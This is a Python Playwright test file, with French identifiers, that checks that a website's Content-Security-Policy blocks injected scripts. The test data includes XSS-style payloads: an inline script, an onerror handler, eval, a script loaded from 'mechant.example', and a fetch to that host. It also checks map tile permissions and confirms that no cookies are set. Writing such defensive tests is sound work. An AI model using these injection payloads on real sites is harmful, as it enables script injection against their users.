"""The Content-Security-Policy bites: what it must refuse is refused, what it must allow works."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from tests.conftest import Visite

if TYPE_CHECKING:
    from playwright.sync_api import Browser, ConsoleMessage

pytestmark = pytest.mark.navigateur

ATTAQUES = {
    "un script écrit dans la page": """
        const $s = document.createElement("script");
        $s.textContent = "window.mechant = 1";
        document.body.append($s);
    """,
    "un gestionnaire écrit dans la page": """
        document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.mechant=1'>");
    """,
    "un script évalué": "try { (0, eval)('window.mechant = 1'); } catch {}",
    "un fichier d’un autre hôte": """
        const $s = document.createElement("script");
        $s.src = "https://mechant.example/x.js";
        document.body.append($s);
    """,
    "un envoi vers un autre hôte": "fetch('https://mechant.example/').catch(() => {});",
}


def is_refusal(message: ConsoleMessage) -> bool:
    return "Content Security Policy" in message.text or "script-src" in message.text


@pytest.mark.parametrize("attaque", ATTAQUES, ids=lambda nom: nom.replace(" ", "-"))
@pytest.mark.parametrize("chemin", ["lycees/0130058t/", "carte/"])
def test_the_policy_refuses(navigateur: Browser, serveur: str, chemin: str, attaque: str) -> None:
    page = navigateur.new_page()
    page.goto(serveur + chemin)
    page.add_script_tag(url=f"{serveur}assets/js/theme.js")
    with page.expect_console_message(is_refusal):
        page.evaluate(f"setTimeout(() => {{ {ATTAQUES[attaque]} }}, 0)")
    execute = page.evaluate("window.mechant")
    page.close()
    assert execute is None


@pytest.mark.parametrize(
    ("chemin", "permis"), [("carte/", True), ("carte/cadre/", True), ("annuaire/", False)]
)
def test_tiles_are_allowed_on_the_map_alone(
    ouvrir: Visite, serveur: str, chemin: str, permis: bool
) -> None:
    page = ouvrir(serveur + chemin)
    politique = page.locator("meta[http-equiv=Content-Security-Policy]").get_attribute("content")
    assert politique is not None
    assert ("https://" in politique) is permis


@pytest.mark.parametrize("chemin", ["", "annuaire/", "carte/", "lycees/0130058t/"])
def test_nothing_is_kept_or_sent_about_a_visitor(ouvrir: Visite, serveur: str, chemin: str) -> None:
    page = ouvrir(serveur + chemin)
    assert page.context.cookies() == []
    assert page.evaluate("document.cookie") == ""
    assert page.locator("meta[name=referrer]").get_attribute("content") == "same-origin"
